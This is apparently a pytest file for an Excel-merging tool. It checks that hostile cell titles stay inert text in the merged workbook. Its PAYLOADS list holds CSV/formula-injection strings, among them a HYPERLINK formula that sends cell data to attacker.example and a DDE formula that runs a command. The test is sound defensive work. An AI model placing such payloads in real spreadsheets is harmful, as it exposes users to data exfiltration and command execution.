"""Untrusted text never becomes a formula, a link or markup downstream (issue: no injection)."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl

from zg_excel.rules import load_rules
from zg_excel.merge import merge
from zg_excel.outputs.write import write_outputs
from zg_excel.roster import load_catalog, load_roster
from zg_excel.template import write_template
from zg_excel.workspace import Workspace, init_workspace

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "http://attacker.example/",
    '=1+1',
]


def _return_with_payload_titles(tmp_path):
    w = tmp_path / "w"
    init_workspace(w)
    rules = load_rules()
    roster, catalog = load_roster(None, rules), load_catalog(None, rules)
    tpl = tmp_path / "t.xlsx"
    write_template(tpl, unit="峡窝镇党委", year=2026, roster=roster, catalog=catalog, rules=rules)
    wb = openpyxl.load_workbook(tpl)
    ws = wb["录用登记"]
    for i, text in enumerate(PAYLOADS, start=4):
        title = ws.cell(row=i, column=1, value=text)
        title.data_type = "s"  # typed as text by the unit, not a formula
        ws.cell(row=i, column=2, value="采用")
        ws.cell(row=i, column=3, value="郑州日报")
        ws.cell(row=i, column=5, value=dt.date(2026, 3, i))
    wb.save(w / "inbox" / "峡窝镇党委.xlsx")
    return w


def test_hostile_titles_stay_inert_text_in_every_output(tmp_path):
    w = _return_with_payload_titles(tmp_path)
    result = merge(w, year=2026, as_of=dt.date(2026, 9, 30))
    titles = [e.title for e in result.events]
    assert titles == PAYLOADS  # read back exactly, as text
    written = write_outputs(result, Workspace(w).output, bulletin_template=Workspace(w).bulletin_template(),
                            issued=dt.date(2026, 10, 8))
    summary = next(p for p in written if p.suffix == ".xlsx")
    with zipfile.ZipFile(summary) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name  # no formula anywhere
            assert "hyperlink" not in name.lower()
        assert not any("externalLink" in n for n in z.namelist())
    wb = openpyxl.load_workbook(summary)
    ws = wb["录用明细"]
    found = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for p in PAYLOADS:
        assert p in found
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f" and c.hyperlink is None
